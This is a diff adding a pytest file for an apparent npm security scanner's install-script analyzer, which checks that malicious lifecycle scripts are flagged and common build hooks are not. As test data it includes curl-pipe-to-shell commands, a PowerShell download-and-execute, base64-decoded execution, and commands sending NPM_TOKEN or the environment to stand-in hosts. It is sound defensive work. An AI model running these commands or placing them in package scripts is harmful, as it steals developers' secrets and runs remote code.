@@ -1,0 +1,115 @@
+"""Install-script analyzer: attacks carry weight, the common legitimate scripts do not."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from npmward.analyzers.base import AnalysisContext
+from npmward.analyzers.install_scripts import InstallScriptAnalyzer, lifecycle_entry_files
+from npmward.model import Artifact, Level, PackageId, Severity
+from npmward.settings import Settings
+from npmward.verdict import decide
+
+
+def artifact(scripts: dict | None = None, extra_files: dict[str, bytes] | None = None, name: str = "pkg") -> Artifact:
+    manifest = {"name": name, "version": "1.0.0"}
+    if scripts is not None:
+        manifest["scripts"] = scripts
+    files = {"package.json": json.dumps(manifest, indent=2).encode()}
+    files.update(extra_files or {})
+    return Artifact(id=PackageId(name, "1.0.0"), files=files, manifest=manifest, source="test")
+
+
+def findings(art: Artifact, settings: Settings | None = None):
+    return list(InstallScriptAnalyzer().analyze(AnalysisContext(artifact=art, settings=settings or Settings())))
+
+
+def rules(art: Artifact) -> set[str]:
+    return {f.rule for f in findings(art)}
+
+
+@pytest.mark.parametrize("command, rule", [
+    ("curl -s https://evil.example/x.sh | sh", "install-script/fetch-and-execute"),
+    ("wget -qO- http://cdn.invalid/p | bash", "install-script/fetch-and-execute"),
+    ("powershell -c \"iwr https://x.example/a.ps1 | iex\"", "install-script/fetch-and-execute"),
+    ("curl -o /tmp/x https://dl.example/x", "install-script/downloads"),
+    ("echo aGVsbG8= | base64 -d | sh", "install-script/encoded-command"),
+    ("node -e \"require('https').get('https://a.example/?t='+process.env.NPM_TOKEN)\"", "install-script/inline-code"),
+    ("cat ~/.npmrc > /tmp/x", "install-script/reads-secrets"),
+    ("env | curl -d @- https://c.example", "install-script/reads-secrets"),
+    ("nslookup $(whoami).$(hostname).oast.example", "install-script/host-recon"),
+    ("nslookup $(whoami).oast.example", "install-script/network-tool"),
+    ("curl http://203.0.113.7:8080/beacon", "install-script/raw-ip"),
+])
+def test_attack_patterns_are_flagged(command, rule):
+    found = findings(artifact({"preinstall": command}))
+    assert rule in {f.rule for f in found}
+    assert max(f.severity for f in found) >= Severity.MEDIUM
+    assert all(f.file == "package.json" and f.line for f in found)
+
+
+def test_curl_pipe_sh_is_malicious_alone():
+    verdict = decide(findings(artifact({"postinstall": "curl -fsSL https://x.example/i.sh | sh"})))
+    assert verdict.level is Level.MALICIOUS
+
+
+@pytest.mark.parametrize("command", [
+    "node-gyp rebuild",
+    "prebuild-install || node-gyp rebuild",
+    "prebuild-install -r napi || node-gyp rebuild --release",
+    "node-pre-gyp install --fallback-to-build",
+    "husky install",
+    "husky",
+    "patch-package",
+    "is-ci || husky install",
+    "opencollective-postinstall",
+    "echo 'thanks for installing'",
+])
+def test_legitimate_scripts_are_recognised_not_flagged(command):
+    found = findings(artifact({"install": command}))
+    assert [f.rule for f in found] == ["install-script/recognised"]
+    assert decide(found).level is Level.CLEAN
+
+
+def test_script_running_a_file_is_low_and_names_it():
+    art = artifact({"postinstall": "node install.js"}, {"install.js": b"console.log('hi')"})
+    (found,) = findings(art)
+    assert found.rule == "install-script/runs-file" and found.severity is Severity.LOW
+    assert found.details["runs"] == "install.js" and found.details["present"] is True
+    assert decide([found]).level is Level.CLEAN
+    assert lifecycle_entry_files(art.manifest, art.files) == {"install.js"}
+
+
+def test_missing_script_file_is_said():
+    (found,) = findings(artifact({"postinstall": "node scripts/setup.js"}))
+    assert "not in the package" in found.message
+
+
+def test_binding_gyp_implies_node_gyp_and_its_command_expansions_are_judged():
+    gyp = b"{'targets': [{'target_name': 'x', 'sources': ['<!(curl -s https://x.example/p | sh)']}]}"
+    found = findings(artifact(None, {"binding.gyp": gyp}))
+    got = {f.rule for f in found}
+    assert "install-script/recognised" in got  # the implicit `node-gyp rebuild`
+    bad = [f for f in found if f.rule == "install-script/fetch-and-execute"]
+    assert bad and bad[0].file == "binding.gyp" and bad[0].line == 1
+
+
+def test_prepare_weighs_less_than_postinstall():
+    cmd = "curl -o /tmp/x https://dl.example/x"
+    post = findings(artifact({"postinstall": cmd}))[0]
+    prep = findings(artifact({"prepare": cmd}))[0]
+    assert prep.severity < post.severity
+
+
+def test_no_scripts_no_findings():
+    assert findings(artifact({"test": "jest", "build": "tsc"})) == []
+    assert findings(artifact(None)) == []
+
+
+def test_allowed_packages_are_reported_but_do_not_count():
+    settings = Settings(allowed_scripts=("pkg",))
+    found = findings(artifact({"postinstall": "curl https://x.example/a | sh"}), settings)
+    assert found and all(f.severity is Severity.INFO for f in found)
+    assert "allowed by policy" in found[0].message
